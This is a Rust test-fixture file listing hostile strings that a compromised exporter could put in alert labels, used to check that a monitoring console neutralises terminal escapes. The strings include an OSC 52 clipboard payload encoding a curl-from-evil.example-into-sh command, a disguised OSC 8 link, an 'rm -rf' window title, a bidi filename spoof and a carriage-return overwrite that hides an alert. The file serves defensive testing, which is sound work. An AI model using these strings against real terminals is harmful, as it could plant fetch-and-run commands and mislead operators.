//! The hostile-string corpus: what a compromised or buggy exporter, Alertmanager or health
//! endpoint could put in a label or annotation to attack the terminal of whoever reads it —
//! colour and cursor escapes, OSC 52 (write the clipboard), OSC 8 (disguised links), a
//! window-title set, bidi overrides, zero-width characters, carriage-return overwrites, C1
//! controls. With `DemoOptions::hostile` the demo's Alertmanager serves one alert per entry
//! so tests (and anyone curious, with `--demo --hostile`) can see the console neutralise
//! them.

/// (name, text) pairs.
pub const CORPUS: &[(&str, &str)] = &[
    (
        "ansi-colour",
        "\x1b[0;36mcyan\x1b[0m and \x1b[1;31mbold red\x1b[0m",
    ),
    (
        "cursor-movement",
        "\x1b[2J\x1b[Hscreen cleared\x1b[10;10Hmoved\x1b[A\x1b[K",
    ),
    (
        "osc52-clipboard",
        "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07clipboard",
    ),
    (
        "osc8-link",
        "\x1b]8;;http://evil.example/\x1b\\harmless docs\x1b]8;;\x1b\\",
    ),
    (
        "title-set",
        "\x1b]0;root@prod-db1: rm -rf\x07\x1b]2;pwned\x1b\\title",
    ),
    (
        "bidi-override",
        "invoice\u{202E}fdp.exe\u{202C} and \u{2066}isolate\u{2069}",
    ),
    (
        "zero-width",
        "pa\u{200B}ss\u{200C}wo\u{200D}rd\u{2060}\u{FEFF}",
    ),
    (
        "cr-overwrite",
        "disk FAILED on prod-db1\rall systems normal     ",
    ),
    ("c1-controls", "\u{9b}31mcsi\u{9d}0;osc\u{9c}\u{85}nel"),
    ("bell-backspace-del", "bell\x07back\x08\x08\x7fdel"),
    ("newlines", "first line\nsecond line\r\nthird\u{2028}fourth"),
    ("dcs-sixel", "\x1bPq#0;2;0;0;0#1!6~\x1b\\after dcs"),
    ("long", LONG),
];

const LONG: &str = concat!(
    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz",
    "\x1b[31m tail after 720 characters"
);
